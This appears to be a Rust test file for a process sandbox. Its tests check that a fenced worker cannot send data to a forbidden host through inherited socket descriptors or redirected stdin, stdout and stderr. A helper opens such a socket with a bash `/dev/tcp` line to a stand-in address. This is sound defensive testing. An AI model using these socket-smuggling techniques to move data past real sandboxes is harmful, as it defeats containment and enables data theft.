//! The ways out, tried from inside the whole fence. The control of every row is `control`; what is
//! no row of the table has its control beside it.

use std::process::{Command, Stdio};

use lab::{
    Lab,
    agent::Agent,
    binary::{self, Scratch},
    prober::Prober,
    server::Servers,
};

use crate::{
    hooks::fence::HOST_LISTENERS,
    rows::{self, Outcome, Under},
};

/// More than any line that the command line prints.
const PAYLOAD: u64 = 4096;

fn scratch() -> Scratch {
    let scratch = Scratch::new().expect("a folder");
    scratch.install("prober").expect("the prober is built");
    scratch
}

fn policy() -> String {
    rows::POLICY.replace("{program}", "{scratch}")
}

fn fenced(lab: &Lab, agent: &Agent) -> Prober {
    let mut command = agent.tool("prober", &[]).expect("the binary is built");
    Prober::start(lab.host(), &mut command).expect("the worker starts")
}

#[test]
fn every_row_is_as_the_table_says() {
    let lab = Lab::new().expect("the lab can be made");
    let host = Servers::start(lab.host(), HOST_LISTENERS).expect("the host listens");
    let agent = Agent::start_in(lab.host(), scratch(), &[("prober", &policy())]).expect("an agent");
    let mut prober = fenced(&lab, &agent);
    rows::check(&lab, &host, Under::Fence, |script| {
        prober.ask(script).expect("the prober answers")
    });
    drop(prober);
    assert_eq!(agent.end().expect("the agent ends"), Vec::<String>::new());
}

#[test]
fn observe_mode_opens_no_special_range() {
    let lab = Lab::new().expect("the lab can be made");
    let host = Servers::start(lab.host(), HOST_LISTENERS).expect("the host listens");
    let policy = policy().replace("version = 1", "version = 1\nmode = \"observe\"");
    let agent = Agent::start_in(lab.host(), scratch(), &[("prober", &policy)]).expect("an agent");
    let mut prober = fenced(&lab, &agent);
    // Port 53 is answered by the agent, and nothing gets out.
    let (answered, refused): (Vec<_>, Vec<_>) =
        rows::special().partition(|row| row.fence == Outcome::Silent);
    for (rows, wanted) in [
        (refused, Outcome::Refused(&["EPERM"][..])),
        (answered, Outcome::Silent),
    ] {
        let complaints = rows::complaints(&lab, &host, rows.into_iter(), wanted, |script| {
            prober.ask(script).expect("the prober answers")
        });
        assert!(complaints.is_empty(), "{}", complaints.join("\n"));
    }
}

/// Starts `prober` by a shell that has descriptor 5 connected to a host that no policy allows.
/// `{run}` stands for what starts the prober.
fn with_socket(lab: &Lab, scratch: &Scratch, run: &str) -> Command {
    let program = scratch.path().join("prober");
    let stockade = binary::stockade().expect("the binary is built");
    let file = scratch
        .write(
            "prober.toml",
            &policy().replace("{scratch}", &scratch.path().display().to_string()),
        )
        .expect("the policy is written");
    let fence = format!("{} run --policy {} --", stockade.display(), file.display());
    let line = run
        .replace("{fence}", &fence)
        .replace("{prober}", &program.display().to_string());
    let mut command = Command::new("/bin/bash");
    command.args(["-c", &format!("exec 5<>/dev/tcp/1.2.3.4/9; {line}")]);
    // The servers of the lab are dialled from its host.
    assert!(lab.host().enter(|| ()).is_ok());
    command
}

fn sunk(lab: &Lab) -> u64 {
    std::thread::sleep(std::time::Duration::from_millis(200));
    let address = "1.2.3.4:9".parse().expect("an address");
    lab.servers().seen(address).bytes
}

#[test]
fn an_inherited_socket_does_not_come_along() {
    let lab = Lab::new().expect("the lab can be made");
    let scratch = scratch();
    let mut bare = with_socket(&lab, &scratch, "exec {prober}");
    let mut prober = Prober::start(lab.host(), &mut bare).expect("the prober starts");
    assert!(
        prober.ask("fd 5; send 5").expect("it answers").ok,
        "control"
    );
    assert_eq!(sunk(&lab), 5, "control");
    let mut inside = with_socket(&lab, &scratch, "exec {fence} {prober}");
    let mut prober = Prober::start(lab.host(), &mut inside).expect("the worker starts");
    for number in 3..64 {
        let answer = prober
            .ask(&format!("fd {number}; send 5"))
            .expect("it answers");
        assert!(!answer.ok, "descriptor {number}: {answer:?}");
    }
    assert_eq!(sunk(&lab), 5);
}

#[test]
fn a_socket_as_standard_stream_is_no_way_out() {
    let lab = Lab::new().expect("the lab can be made");
    let scratch = scratch();
    let send = |command: &mut Command| {
        command
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null());
        let status = lab.host().enter(|| command.status());
        status.expect("the namespace").expect("a shell")
    };
    for (stream, number) in [("<&5", 0), (">&5", 1), ("2>&5", 2)] {
        let script = format!("{{prober}} 'fd {number}; send {PAYLOAD}' {stream}");
        let before = sunk(&lab);
        send(&mut with_socket(&lab, &scratch, &script));
        let control = sunk(&lab);
        assert!(control >= before + PAYLOAD, "control: {stream}");
        send(&mut with_socket(
            &lab,
            &scratch,
            &format!("{{fence}} {script}"),
        ));
        // The command line's own complaint may go there, the worker's payload may not.
        assert!(
            sunk(&lab) < control + PAYLOAD,
            "a worker sent through {stream}"
        );
    }
}
